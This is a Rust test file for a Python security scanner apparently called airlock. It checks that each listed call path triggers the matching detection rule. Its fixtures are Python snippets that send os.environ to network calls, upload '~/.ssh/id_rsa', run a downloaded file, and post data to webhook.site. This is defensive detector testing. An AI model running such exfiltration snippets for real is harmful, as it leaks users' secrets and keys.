//! Each entry of the lists of paths, scanned where it is called in a few lines: one that nothing leads to is dead.

mod every;

use std::fmt::Write as _;

use airlock_model::{Finding, Tree, TreePath};

use super::flow::UPLOADERS;
use super::{paths, sinks};
use crate::python::model::origin::STORES;
use crate::python::{Settings, scan};

/// A call with a value that is not known.
const ANYTHING: &str = "def run(x):\n    return CALL(x, x)\n";
/// A call that is given the whole environment.
const ENVIRONMENT: &str =
    "import os\n\nCALL(dict(os.environ), dict(os.environ), headers=dict(os.environ), data=dict(os.environ))\n";
/// A call that is given a file which came from elsewhere.
const DOWNLOAD: &str =
    "import requests\n\nopen('a.bin', 'wb').write(requests.get('https://x.test/').content)\nCALL('a.bin', 'a.bin')\n";

fn found(text: &str) -> Vec<Finding> {
    let mut tree = Tree::new();
    tree.insert(TreePath::new("listed.py").expect("a name"), text.as_bytes());
    scan(&tree, &Settings { jobs: 1, ..Settings::default() }).findings
}

/// The module to import, and the path as Python: `a.b().c`, `a[0].b`, `a.anything`.
fn written(path: &str) -> (String, String) {
    let modules: Vec<&str> = path.split('.').take_while(|part| !part.contains(['(', '['])).collect();
    let module = if path.contains('(') || modules.len() < 3 {
        modules.first().map_or(path, |module| module.trim_end_matches("()")).to_owned()
    } else {
        modules[..modules.len() - 1].join(".")
    };
    let module = if module.is_empty() { path.split(['.', '(']).next().unwrap_or(path).to_owned() } else { module };
    let call = path.replace("[]", "[0]").replace(".*", ".anything");
    (module, if call.ends_with('.') { call + "anything" } else { call })
}

/// What of a list is not told by one of the rules; with its path in the message, where `named`.
fn dead<'p>(list: impl IntoIterator<Item = &'p str>, text: &str, rules: &[&str], named: bool) -> String {
    let mut out = String::new();
    for path in list {
        let (module, call) = written(path);
        let findings = found(&format!("import {module}\n{}", text.replace("CALL", &call)));
        let shown = path.trim_end_matches(".*");
        let told = findings.iter().any(|found| {
            rules.iter().any(|rule| found.rule.starts_with(rule)) && (!named || found.message.contains(shown))
        });
        if !told {
            let messages: Vec<_> = findings.iter().map(|found| format!("{}: {}", found.rule, found.message)).collect();
            writeln!(out, "{path}: {messages:?}").expect("text");
        }
    }
    out
}

#[test]
fn no_path_of_a_list_is_dead() {
    let mut all = String::new();
    let pickles = "AL-CODE-unsafe-deserialisation";
    for (list, text, rule) in [
        (paths::SHELLS, ANYTHING, "AL-CAPABILITY-subprocess"),
        (paths::POPENS, ANYTHING, "AL-CAPABILITY-subprocess"),
        (paths::PROCESSES, ANYTHING, "AL-CAPABILITY-subprocess"),
        (paths::EVALUATORS, ANYTHING, "AL-CAPABILITY-dynamic-code"),
        (paths::CODE_MAKERS, ANYTHING, "AL-CAPABILITY-dynamic-code"),
        (paths::EXPRESSIONS, "import flask\nCALL(flask.request.args['x'])\n", "AL-CODE-dynamic-code"),
        (paths::SYMBOLS, "import flask\nCALL(flask.request.args['x'])\n", "AL-CODE-dynamic-code"),
        (paths::PICKLES, ANYTHING, pickles),
        (paths::PICKLES_ASKED, "def run(x):\n    CALL(x, allow_pickle=True, safe_mode=False)\n", pickles),
        (paths::NATIVE, ANYTHING, "AL-CAPABILITY-native-code"),
        (paths::NETWORK, ANYTHING, "AL-CAPABILITY-network"),
        (paths::FILE_OPENERS, "def run(x):\n    CALL(x, mode='w')\n", "AL-CAPABILITY-filesystem-write"),
        (paths::FILE_WRITERS, ANYTHING, "AL-CAPABILITY-filesystem-write"),
        (paths::FILE_READERS, ANYTHING, "AL-CAPABILITY-filesystem-read"),
        (sinks::SENDERS, ENVIRONMENT, "AL-FLOW-environment-to-network"),
        (sinks::LOADERS, DOWNLOAD, "AL-FLOW-download-run"),
        (UPLOADERS, "CALL('~/.ssh/id_rsa', 'x', '~/.ssh/id_rsa')\n", "AL-FLOW-key-file-to-network"),
    ] {
        all.push_str(&dead(list.iter().copied(), text, &[rule], true));
    }
    let requests: Vec<String> = sinks::requests().collect();
    let text = "import os\n\nCALL('x', 'y', headers=dict(os.environ))\n";
    all.push_str(&dead(requests.iter().map(String::as_str), text, &["AL-FLOW-environment-to-network"], true));
    // What these give is asked where it ends.
    let stores: Vec<String> = STORES
        .iter()
        .map(|(path, _)| path.replace(".*", ".anything"))
        .map(|path| if path.ends_with(')') { format!("{path}.text()") } else { format!("{path}(1)") })
        .collect();
    for store in &stores {
        let text = format!("import requests\n\nrequests.post('https://webhook.site/x', data={store})\n");
        let module = store.split('.').next().unwrap_or(store);
        all.push_str(&dead([module], &text, &["AL-FLOW-"], false).replace(module, store));
    }
    assert!(all.is_empty(), "\n{all}");
}
